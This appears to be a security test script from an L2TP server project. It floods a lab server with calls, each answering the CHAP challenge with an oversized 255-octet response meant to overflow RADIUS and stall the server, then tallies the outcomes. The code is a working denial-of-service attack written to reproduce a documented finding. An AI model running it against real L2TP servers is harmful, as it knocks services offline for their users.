/**
 * Attack script (runs in the attacker namespace), issue 12 finding 3: one
 * L2TP tunnel, then `count` calls one after the other; in each, LCP up and
 * the server's CHAP-MD5 Challenge answered with a Response Value of `size`
 * octets (255: a CHAP-Password of 256 octets, more than RADIUS can carry) as
 * `user`. A call ends when the server answers (Success/Failure) or after
 * `waitMs` without an answer (a server stuck waiting on RADIUS), then the
 * next one starts.
 * Prints `DONE calls=N failure=F success=S unanswered=U refused=R` (refused: the
 * server turned the call down before it was up).
 */
import { clientRuntime } from '../../../../src/client/common.js';
import { silentLogger } from '../../../../src/log/logger.js';
import { L2tpPort, type L2tpSessionTransport } from '../../../../src/server/l2tp-endpoint.js';
import type { PppLink } from '../../../../src/server/link.js';
import { ScriptedPppPeer } from '../../ppp-peer.js';

const [server = '10.201.0.1', countArg = '300', sizeArg = '255', user = 'mallory', waitArg = '1000'] = process.argv.slice(2);
const count = Number(countArg);
const size = Number(sizeArg);
const waitMs = Number(waitArg);

const rt = clientRuntime({ log: silentLogger });
const tally = { calls: 0, failure: 0, success: 0, unanswered: 0, refused: 0 };
let tunnelId: number | undefined;
/** One call at a time: idle → opening (ICRQ sent) → up (PPP running) → idle. */
let state: 'idle' | 'opening' | 'up' = 'idle';
let current: { transport: L2tpSessionTransport; peer: ScriptedPppPeer; timer: NodeJS.Timeout } | undefined;
let finish!: () => void;
const done = new Promise<void>((r) => (finish = r));

const next = (p: L2tpPort): void => {
  if (state !== 'idle') return;
  if (tally.calls >= count || tunnelId === undefined) {
    finish();
    return;
  }
  tally.calls++;
  state = 'opening';
  p.command(tunnelId, { type: 'open-session' }, rt.ctx.clock.now());
};

const endCall = (p: L2tpPort, peer: ScriptedPppPeer, outcome: 'failure' | 'success' | 'unanswered'): void => {
  const c = current;
  if (state !== 'up' || !c || c.peer !== peer) return;
  current = undefined;
  state = 'idle';
  clearTimeout(c.timer);
  tally[outcome]++;
  if (!c.transport.closed) p.command(tunnelId!, { type: 'close-session', sessionId: c.transport.sessionId, reason: 'attacker hangs up' }, rt.ctx.clock.now());
  setImmediate(() => next(p));
};

const port = new L2tpPort(
  rt.ctx,
  { tunnel: { role: 'lac', hostName: 'attacker', vendorName: 'attacker' }, maxTunnels: 1 },
  {
    onTunnelEvent(p, id, peer, e) {
      if (e.type === 'tunnel-up') {
        tunnelId = id;
        next(p);
      } else if (e.type === 'session-up') {
        const transport = p.openSession(id, peer, e);
        const scripted = new ScriptedPppPeer(
          (f) => transport.sendFrame(f, rt.ctx.clock.now()),
          () => ({ value: new Uint8Array(size).fill(0x41), name: user }),
        );
        // What the transport needs of a link: frames in, the end of the call.
        transport.link = {
          fromTransport: (f: Uint8Array) => {
            scripted.receive(f);
            if (scripted.outcomes.length > 0) endCall(p, scripted, scripted.outcomes[0]!);
          },
          lowerDown: () => endCall(p, scripted, scripted.outcomes[0] ?? 'unanswered'),
          close: () => {},
          onPathMtu: () => {},
        } as unknown as PppLink;
        state = 'up';
        current = { transport, peer: scripted, timer: setTimeout(() => endCall(p, scripted, 'unanswered'), waitMs) };
        scripted.configureRequest();
      } else if (e.type === 'session-down') {
        if (current && current.transport.sessionId === e.sessionId) endCall(p, current.peer, current.peer.outcomes[0] ?? 'unanswered');
        else if (state === 'opening') {
          // Refused before it was up (a session limit).
          tally.refused++;
          state = 'idle';
          setImmediate(() => next(p));
        }
      } else if (e.type === 'tunnel-down') {
        tunnelId = undefined;
        finish();
      }
    },
  },
  silentLogger,
  false,
);
await port.bind('0.0.0.0', 0);
const id = port.connect({ address: server, port: 1701 });
if (id === undefined) throw new Error('no tunnel');
const overall = setTimeout(() => finish(), 120_000);
await done;
clearTimeout(overall);
console.log(`DONE calls=${tally.calls} failure=${tally.failure} success=${tally.success} unanswered=${tally.unanswered} refused=${tally.refused}`);
if (tunnelId !== undefined) port.command(tunnelId, { type: 'close', reason: 'attack over' }, rt.ctx.clock.now());
await new Promise((r) => setTimeout(r, 300));
rt.scheduler.stop();
port.close();
process.exit(0);
